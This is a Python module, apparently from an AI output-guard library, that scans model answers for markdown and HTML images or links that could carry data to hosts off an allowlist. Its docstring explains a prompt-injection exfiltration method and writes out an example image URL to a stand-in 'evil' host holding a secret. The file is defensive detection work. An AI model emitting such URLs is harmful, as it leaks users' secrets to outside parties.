"""Exfiltration through markdown: images and links that carry data to outside hosts.

A markdown or HTML image in an answer is fetched by the client as soon as it renders,
so an injected instruction can make the model append ``![](https://evil/?q=<secret>)``
and the data leaves without a click. Images to hosts outside the allowlist are flagged;
links only when their URL carries a payload (a long query or an encoded-looking run).
"""

from __future__ import annotations

from collections.abc import Sequence
from urllib.parse import urlsplit

from aiattest.guard.interface import Finding, ScanContext, Scanner, Severity
from aiattest.guard.patterns import compile_linear, scannable

EXFILTRATION = "DATA_EXFILTRATION"
_URL = r"(?:https?:)?//[^\s)<>\"']+"
_IMAGE = compile_linear(r"!\[[^\]\n]*\]\(\s*<?(" + _URL + ")", ignore_case=True)
_LINK = compile_linear(r"(?:^|[^!])\[[^\]\n]*\]\(\s*<?(" + _URL + ")", ignore_case=True)
_REFERENCE = compile_linear(r"(?m)^[ \t]*\[([^\]\n]+)\]:[ \t]*<?(" + _URL + ")", ignore_case=True)
_IMAGE_LABEL = compile_linear(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\])?")
_HTML_IMAGE = compile_linear(r"<img\b[^>]*?\bsrc\s*=\s*[\"']?(" + _URL + ")", ignore_case=True)
_PAYLOAD_CHARS = 24
"""Query or fragment length from which a URL is taken to carry data."""


def _carries_payload(url: str) -> bool:
    parts = urlsplit(url)
    if len(parts.query) + len(parts.fragment) >= _PAYLOAD_CHARS:
        return True
    # A long unbroken run of base64/hex-like characters in the path is data, not a page name.
    run = longest = 0
    for ch in parts.path:
        run = run + 1 if (ch.isalnum() or ch in "+=_-") else 0
        longest = max(longest, run)
    return longest >= 40


class ExfiltrationScanner(Scanner):
    """Flags images to hosts outside ``allowed_domains`` and links that carry payloads."""

    name = "exfiltration"

    def __init__(self, allowed_domains: Sequence[str] = ()) -> None:
        self.allowed = tuple(d.lower().lstrip(".") for d in allowed_domains)

    def scan(self, text: str, context: ScanContext) -> list[Finding]:
        """Findings cover the URL; images score 0.95 with a payload, else 0.6."""
        text = scannable(text)
        findings: list[Finding] = []
        # A reference definition used by an image (``![x][ref]`` … ``[ref]: url``) loads
        # as an image too, so it is judged like one.
        image_labels = {
            (m.group(2) or m.group(1)).strip().lower() for m in _IMAGE_LABEL.finditer(text)
        }
        for pattern, subtype, group in (
            (_IMAGE, "markdown_image", 1),
            (_HTML_IMAGE, "html_image", 1),
            (_REFERENCE, "markdown_reference", 2),
            (_LINK, "markdown_link", 1),
        ):
            for m in pattern.finditer(text):
                url = m.group(group)
                start, end = m.span(group)
                if self._allowed(url):
                    continue
                is_image = subtype.endswith("image") or (
                    group == 2 and m.group(1).strip().lower() in image_labels
                )
                payload = _carries_payload(url)
                if is_image:
                    score = 0.95 if payload else 0.6
                elif payload:
                    score = 0.8
                else:
                    continue
                findings.append(
                    Finding(self.name, EXFILTRATION, start, end, score, Severity.HIGH, subtype)
                )
        return findings

    def _allowed(self, url: str) -> bool:
        try:
            host = (urlsplit(url if "//" in url else "//" + url).hostname or "").lower()
        except ValueError:
            return False  # a URL too broken to parse is not on any allowlist
        return any(host == d or host.endswith("." + d) for d in self.allowed)
